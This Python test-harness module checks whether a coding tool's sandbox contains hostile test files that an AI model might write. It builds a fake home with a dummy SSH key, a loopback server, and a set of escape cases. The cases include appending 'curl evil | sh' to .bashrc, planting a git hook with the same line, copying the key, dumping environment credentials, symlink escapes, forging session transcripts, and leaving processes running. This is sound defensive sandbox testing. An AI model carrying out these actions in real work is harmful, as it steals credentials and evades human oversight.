"""Hostile tests: what a model-written test could do to the user, and whether the sandbox stops it.

Each case is a pytest file a model might write, run by the session's own
runner on a fresh workspace, then checked from outside: did the file outside
the workspace appear, did the key leave home, did a process outlive the run.
``tests/test_hostile.py`` requires every case to be contained under the
default sandbox; ``chatpkg bench sandbox`` also runs them with the sandbox off
(cleaning up after the ones that get out) to show what it is for.
"""

from __future__ import annotations

import os
import shutil
import socket
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from chatpkg.core.runner import PytestRunner, TestReport
from chatpkg.core.runner.confine import Confinement

SECRET = "chatpkg-hostile-secret-" + uuid.uuid4().hex[:8]


@dataclass
class Stage:
    """Where a case runs: the workspace, a fake home with a key, a loopback server, a marker for processes."""

    workspace: Path
    home: Path
    outside: Path  # a folder outside the workspace the test may not write to
    port: int
    marker: str
    connections: list[int]


@dataclass(frozen=True)
class Case:
    name: str
    test: Callable[[Stage], str]  # the hostile test file's source
    escaped: Callable[[Stage], str | None]  # what got out, or None when contained


def _write_outside(stage: Stage) -> str:
    return (
        "from pathlib import Path\n\n"
        "def test_write():\n"
        f"    Path({str(stage.outside / 'pwned.txt')!r}).write_text('pwned')\n"
    )


def _write_home(stage: Stage) -> str:
    return (
        "import os\n\n"
        "def test_write():\n"
        f"    open(os.path.join({str(stage.home)!r}, '.bashrc'), 'a').write('curl evil | sh\\n')\n"
    )


def _steal_key(stage: Stage) -> str:
    return (
        "from pathlib import Path\n\n"
        "def test_steal():\n"
        f"    key = Path({str(stage.home / '.ssh' / 'id_rsa')!r}).read_text()\n"
        "    Path('stolen.txt').write_text(key)\n"
    )


def _loopback(stage: Stage) -> str:
    return (
        "import socket\n\n"
        "def test_connect():\n"
        f"    with socket.create_connection(('127.0.0.1', {stage.port}), timeout=3) as s:\n"
        "        s.sendall(b'hello')\n"
    )


def _leave_processes(stage: Stage) -> str:
    sleeper = f"import time; time.sleep(120)  # {stage.marker}"
    return (
        "import subprocess, sys\n\n"
        "def test_spawn():\n"
        f"    subprocess.Popen([sys.executable, '-c', {sleeper!r}], start_new_session=True)\n"
        f"    subprocess.Popen([sys.executable, '-c', {sleeper!r}])\n"
    )


def _git_hook(stage: Stage) -> str:
    return (
        "import os\nfrom pathlib import Path\n\n"
        "def test_hook():\n"
        "    hook = Path('.git/hooks/pre-commit')\n"
        "    hook.write_text('#!/bin/sh\\ncurl evil | sh\\n')\n"
        "    os.chmod(hook, 0o755)\n"
    )


def _transcript(stage: Stage) -> str:
    return (
        "from pathlib import Path\n\n"
        "def test_rewrite_history():\n"
        "    Path('.chatpkg/sessions').mkdir(parents=True, exist_ok=True)\n"
        "    Path('.chatpkg/sessions/forged.jsonl').write_text('{}')\n"
    )


def _environment(stage: Stage) -> str:
    return (
        "import os\nfrom pathlib import Path\n\n"
        "def test_env():\n"
        "    Path('env.txt').write_text(repr(dict(os.environ)))\n"
    )


def _symlink_out(stage: Stage) -> str:
    return (
        "import os\nfrom pathlib import Path\n\n"
        "def test_link():\n"
        f"    os.symlink({str(stage.outside)!r}, 'out')\n"
        "    Path('out/via-link.txt').write_text('pwned')\n"
    )


def _memory(stage: Stage) -> str:
    return "def test_alloc():\n    block = bytearray(40 * 1024 ** 3)\n    assert block\n"


def _endless(stage: Stage) -> str:
    return "def test_loop():\n    while True:\n        pass\n"


def _found(path: Path, what: str) -> str | None:
    return what if path.exists() else None


def _processes_left(stage: Stage) -> str | None:
    deadline = time.monotonic() + 3.0
    while time.monotonic() < deadline:
        alive = _with_marker(stage.marker)
        if not alive:
            return None
        time.sleep(0.1)
    for pid in alive:  # clean up after an escape
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return f"{len(alive)} process(es) still running after the run"


def _with_marker(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _read(path: Path) -> str:
    return path.read_text(errors="replace") if path.is_file() else ""


CASES = (
    Case("write a file outside the workspace", _write_outside,
         lambda s: _found(s.outside / "pwned.txt", "wrote outside the workspace")),
    Case("append to a shell start-up file in $HOME", _write_home,
         lambda s: _found(s.home / ".bashrc", "wrote ~/.bashrc")),
    Case("copy an SSH key into the workspace", _steal_key,
         lambda s: "copied the key" if SECRET in _read(s.workspace / "stolen.txt") else None),
    Case("connect to a server on the loopback address", _loopback,
         lambda s: f"{len(s.connections)} connection(s) reached it" if s.connections else None),
    Case("leave processes running (own session, and plain children)", _leave_processes, _processes_left),
    Case("write an executable git hook", _git_hook,
         lambda s: _found(s.workspace / ".git" / "hooks" / "pre-commit", "wrote .git/hooks/pre-commit")),
    Case("forge a session transcript", _transcript,
         lambda s: _found(s.workspace / ".chatpkg" / "sessions" / "forged.jsonl", "wrote into .chatpkg")),
    Case("read a credential from the environment", _environment,
         lambda s: "read DEPLOY_CREDENTIAL" if SECRET in _read(s.workspace / "env.txt") else None),
    Case("write outside through a symlink", _symlink_out,
         lambda s: _found(s.outside / "via-link.txt", "wrote through the symlink")),
    Case("allocate 40 GB", _memory, lambda s: None),  # contained when the run returned (checked by the caller)
    Case("loop forever", _endless, lambda s: None),
)


@contextmanager
def _loopback_server(connections: list[int]) -> Iterator[int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            connections.append(1)
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1]
    finally:
        stop.set()
        thread.join()
        server.close()


@contextmanager
def stage(scratch: Path) -> Iterator[Stage]:
    """A workspace, a home (under the real home, as a user's is) with a key, a loopback server."""
    workspace = scratch / "ws"
    (workspace / "tests").mkdir(parents=True)
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".chatpkg" / "sessions").mkdir(parents=True)  # a session's transcripts live here
    outside = scratch / "outside"
    outside.mkdir()
    home = Path(tempfile.mkdtemp(prefix=".chatpkg-hostile-home-", dir=Path.home()))
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")
    saved = {k: os.environ.get(k) for k in ("HOME", "DEPLOY_CREDENTIAL")}
    os.environ["HOME"], os.environ["DEPLOY_CREDENTIAL"] = str(home), SECRET
    connections: list[int] = []
    try:
        with _loopback_server(connections) as port:
            yield Stage(workspace, home, outside, port, f"chatpkg-hostile-{uuid.uuid4().hex[:8]}", connections)
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
        shutil.rmtree(home, ignore_errors=True)


@dataclass(frozen=True)
class Outcome:
    case: str
    escaped: str | None  # what got out; None: contained
    report: TestReport
    seconds: float


def run_case(case: Case, scratch: Path, confinement: Confinement, timeout: float = 5.0) -> Outcome:
    """Run one hostile test in a fresh workspace under ``confinement`` and check what got out."""
    with stage(scratch) as where:
        (where.workspace / "tests" / "test_hostile.py").write_text(case.test(where))
        runner = PytestRunner(timeout=timeout, confinement=confinement)
        started = time.monotonic()
        report = runner.run(where.workspace)
        seconds = time.monotonic() - started
        return Outcome(case.name, case.escaped(where), report, seconds)


def run_all(confinement: Confinement, timeout: float = 5.0) -> list[Outcome]:
    outcomes = []
    for case in CASES:
        with tempfile.TemporaryDirectory(prefix="chatpkg-hostile-") as scratch:
            outcomes.append(run_case(case, Path(scratch), confinement, timeout))
    return outcomes
